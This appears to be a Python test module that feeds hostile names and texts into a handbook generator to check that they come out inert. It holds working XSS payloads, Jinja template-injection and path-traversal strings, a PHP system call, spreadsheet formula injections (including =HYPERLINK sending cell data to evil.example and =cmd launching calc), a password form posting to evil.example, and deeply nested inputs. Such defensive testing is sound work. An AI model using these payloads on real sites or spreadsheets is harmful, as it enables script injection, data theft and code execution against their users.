"""Texts that would be markup, script, a link elsewhere, a template, a formula or an instruction: all harmless."""

from __future__ import annotations

import json
from dataclasses import replace

from hostile.case import BOOK, HEAD, Case, attack


def _says(name: str, tries: str, text: str, seen: str) -> Case:
    """Return a case in which a term means a text, of which a part is to be seen."""
    made = attack(name, tries, f"terms:\n  t-{name}: {json.dumps(text, ensure_ascii=False)}\n", terms=seen)
    return replace(made, together=True)


def _named(name: str, tries: str, text: str, seen: str = "") -> Case:
    """Return a case in which a post, a flow, its steps, its outcomes and a record bear a hostile name."""
    said, short = (json.dumps(part, ensure_ascii=False) for part in (text, text[:40]))
    content = (
        f"roles:\n  甲: {{unit: 公司, name: {said}, duties: [{said}]}}\n"
        f"records:\n  单: {{name: {said}, kind: form, owner: 公司, keep: {said}}}\n"
        f"meetings:\n  会: {{name: {said}, chair: 甲, every: week}}\n"
        f"flows:\n  流程:\n    name: {said}\n    owner: 甲\n    starts_when: {said}\n    steps:\n"
        f"      a: {{name: {said}, responsible: 甲, accountable: 甲, outputs: 单, decide: {{{short}: b, 否: c}}}}\n"
        f"      b: {{ends: {said}}}\n      c: {{ends: 坏}}\n"
    )
    seen = seen or text
    return attack(name, tries, content, **{"roles/甲": seen, "flows/流程": seen, "records": seen})


CASES = (
    _says("script", "a script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    _says("handler", "a picture that fails", "<img src=x onerror=alert(1)>", "onerror=alert(1)"),
    _says(
        "svg", "a drawing that runs", "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a>", "<svg/onload"
    ),
    _says("iframe", "another site in this one", "<iframe src='https://evil.example'></iframe>", "<iframe src="),
    _says("base", "another home for every link", "<base href='https://evil.example/'>", "<base href="),
    _says(
        "refresh",
        "a page that goes elsewhere",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<meta http",
    ),
    _says(
        "form", "a form that asks for passwords", "<form action='//evil.example'><input name=p></form>", "<form action="
    ),
    _says("styles", "styles that cover the page", "<style>*{display:none}</style>", "<style>*{display"),
    _says("closing", "the end of the page around it", "</p></div></article></main></body>", "</article></main>"),
    _says("comment", "a comment that nobody closes", "<!-- <b>", "<!--"),
    _says("cdata", "a section that ends XML", "]]><![CDATA[ <x/> ?><?php system('id') ?>", "<?php system"),
    _says("entities", "markup written as entities", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)"),
    _says("math", "MathML that becomes HTML", "<math><mtext><style><img src onerror=alert(1)>", "<math><mtext>"),
    _says("javascript-link", "a link that runs", "[按这里](javascript:alert(1))", "按这里"),
    _says("javascript-in-capitals", "as above, in another spelling", "[按](JaVaScRiPt&colon;alert(1))", "按"),
    _says("javascript-with-tab", "as above, with a tab that browsers drop", "[按](java&#9;script:alert(1))", "按"),
    _says("data-link", "a page inside a link", "[按](data:text/html;base64,PHNjcmlwdD4=)", "按"),
    _says("vbscript-link", "the script of old Windows", "[按](vbscript:msgbox(1))", "按"),
    _says("file-link", "a file of the reader's computer", "[按](file:///etc/passwd)", "按"),
    _says("same-scheme", "another host without a scheme", "[按](//evil.example/x)", "按"),
    _says("backslashes", "another host, as browsers read it", r"[按](/\evil.example)", "按"),
    _says("credentials", "a host that looks like another", "[按](https://good.example@evil.example/)", "按"),
    _says("up-link", "a link out of the site", "[按](../../../../etc/passwd)", "按"),
    _says("autolink", "a link that runs, in angles", "<javascript:alert(1)>", "<javascript:alert(1)>"),
    _says("quote-in-link", "an attribute in an address", '[按](https://a.example/"onmouseover="alert(1))', "按"),
    _says("quote-in-title", "an attribute in a title", "[按](https://a.example 'x\" onclick=\"alert(1)')", "按"),
    _says("picture", "a picture that tells who reads", "![看](https://evil.example/x.png)", "看"),
    _says("reference", "a link defined elsewhere", "[按][x]\n\n[x]: javascript:alert(1)\n", "按"),
    _says("jinja", "a template", "{{ 7*7 }} {% include '/etc/passwd' %} {{ config.__class__ }}", "{{ 7*7 }}"),
    _says("snippets", "a file put in", "--8<-- '/etc/passwd'", "/etc/passwd"),
    _says(
        "attributes",
        "attributes of Python-Markdown",
        "# 标题 {: onclick=alert(1) }\n\n!!! note\n    x",
        "onclick=alert(1)",
    ),
    _says("front-matter", "settings of a page", "---\ntemplate: evil.html\nhide: [navigation]\n---\n文", "文"),
    _says(
        "mermaid",
        "a chart that a script would draw",
        "```mermaid\ngraph TD; A-->B; click A href 'javascript:x'\n```",
        "click A",
    ),
    _says("fence", "a language that is an attribute", '```x" onclick="alert(1)\n码\n```', "码"),
    _says("checkbox", "what we use ourselves", "<input type=checkbox id=__drawer checked>", "<input type=checkbox"),
    _says("nested-quotes", "5,000 quotes in each other", ">" * 5_000 + " 内", "t-nested-quotes"),
    _says("nested-links", "5,000 links in each other", "[a](b" * 5_000, "[a](b"),
    _says("stars", "emphasis without end", "*a **a " * 5_000, "a"),
    _says("ticks", "code spans that nobody closes", "".join("`" * n + " " for n in range(1, 300)) + "末", "末"),
    _says("wide-table", "a table of 1,000 columns", "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n|" + "b|" * 1_000, "b"),
    _named("name-tag", "a name that is a script", "<script>alert(1)</script>"),
    _named("name-attribute", "a name that leaves its attribute", "\" onmouseover=alert(1) x='"),
    _named("name-entity", "a name that is markup after one reading", "&lt;img src=x onerror=alert(1)&gt;"),
    _named("name-template", "a name that is a template", "{{ cycler.__init__.__globals__.os }}{% raw %}"),
    _named(
        "name-graphviz",
        "a name that is an instruction to Graphviz",
        '"]; a [label=<<b>x</b>>, URL="javascript:alert(1)"]; //',
    ),
    _named("name-graphviz-escapes", "a name of Graphviz's escapes", r"\N\G\E\L\l\r"),
    _named("name-formula", "a name that is a formula", "=cmd|'/C calc'!A0"),
    _named("name-link-formula", "a formula that sends the sheet away", '=HYPERLINK("https://evil.example/"&A1,"x")'),
    _named("name-plus", "a formula that begins otherwise", "+1+1"),
    _named("name-minus", "a formula that begins otherwise", "-2+3"),
    _named("name-at", "a formula of old", "@SUM(1+1)"),
    _named("name-sheet", "a name that no sheet may bear", "[a]:*?/\\'x'"),
    _named("name-calendar", "a line of its own in a calendar", "END:VEVENT;BEGIN:VALARM,ACTION:PROCEDURE\\nATTACH"),
    _named("name-long", "a name as long as it may be", "长" * 200, "长长长"),
    _named("name-url", "an address for a name", "https://evil.example/"),
    _named("name-blank-marks", "a name without a letter", "———"),
    attack(
        "name-empty",
        "names of nothing",
        'roles:\n  甲: {unit: 公司, name: "", duties: [" "]}\n  乙: {unit: 公司, name: "　"}\n',
    ),
    attack(
        "cell",
        "a text longer than a cell of Excel takes",
        "flows:\n  f:\n    owner: 经理\n    starts_when: 有事\n    steps:\n"
        f"      a: {{responsible: 经理, accountable: 经理, does: {'字' * 33_000}}}\n",
        **{"flows/f": "字字字"},
    ),
    Case(
        "title",
        "a title that is a script and a template",
        {f"{BOOK}handbook.yaml": HEAD.replace("手册", '"</title><script>alert(1)</script>{{ 7*7 }}"')},
        shows={"": "</title><script>alert(1)</script>{{ 7*7 }}"},
    ),
)
